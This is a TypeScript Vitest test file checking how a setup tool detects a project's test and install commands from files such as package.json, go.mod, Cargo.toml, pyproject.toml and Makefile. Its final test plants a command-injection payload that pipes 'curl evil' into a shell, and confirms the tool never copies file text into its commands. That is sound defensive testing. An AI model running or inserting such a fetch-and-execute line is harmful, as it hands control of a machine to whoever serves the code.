import { describe, expect, it } from 'vitest';
import { findTestCommand } from '../../src/core/setup/test-command.ts';

const npm = (test: string): string => JSON.stringify({ scripts: { test } });

function found(files: Readonly<Record<string, string>>, more: readonly string[] = []) {
  return findTestCommand(new Map(Object.entries(files)), [...Object.keys(files), ...more]);
}

describe('how tests are run', () => {
  it.each([
    ['npm test', { 'package.json': npm('vitest run') }],
    ['go test ./...', { 'go.mod': 'module x' }],
    ['cargo test', { 'Cargo.toml': '' }],
    ['"$RUNNER_TEMP/venv/bin/pytest"', { 'pyproject.toml': '[dependency-groups]\ntest = ["pytest>=8"]\n' }],
    ['make test', { Makefile: 'all:\n\tcc\ntest: all\n\t./t\n' }],
    ['npm test', { 'package.json': npm('x'), 'go.mod': '', Makefile: 'test:\n' }],
  ])('is %s with %j', (run, files) => expect(found(files)?.run).toBe(run));

  it.each([
    ['there are no files', {}, []],
    ['npm init’s own script', { 'package.json': npm('echo "Error: no test specified" && exit 1') }, []],
    ['a manifest without a script', { 'package.json': '{"name": "x"}' }, []],
    ['a manifest that is none', { 'package.json': '{' }, []],
    ['a script that is no text', { 'package.json': '{"scripts": {"test": 1}}' }, []],
    ['another package manager', { 'package.json': npm('vitest') }, ['pnpm-lock.yaml']],
    ['a Python project without pytest', { 'pyproject.toml': '[project]\n' }, []],
    ['a variable called test', { Makefile: 'test := 1\nlatest:\n' }, []],
  ])('is not known by %s', (_what, files, more) => expect(found(files, more)).toBeNull());

  it('installs what is locked where something is', () => {
    const files = { 'package.json': npm('vitest') };
    expect(found(files, ['package-lock.json'])?.prepare).toEqual(['npm ci']);
    expect(found(files)?.prepare).toEqual(['npm install --no-package-lock']);
  });

  it('never takes a word of the files into its commands', () => {
    const evil = found({ 'package.json': npm('"; curl evil | sh #') });
    expect(JSON.stringify([evil?.run, evil?.prepare])).not.toContain('evil');
  });
});
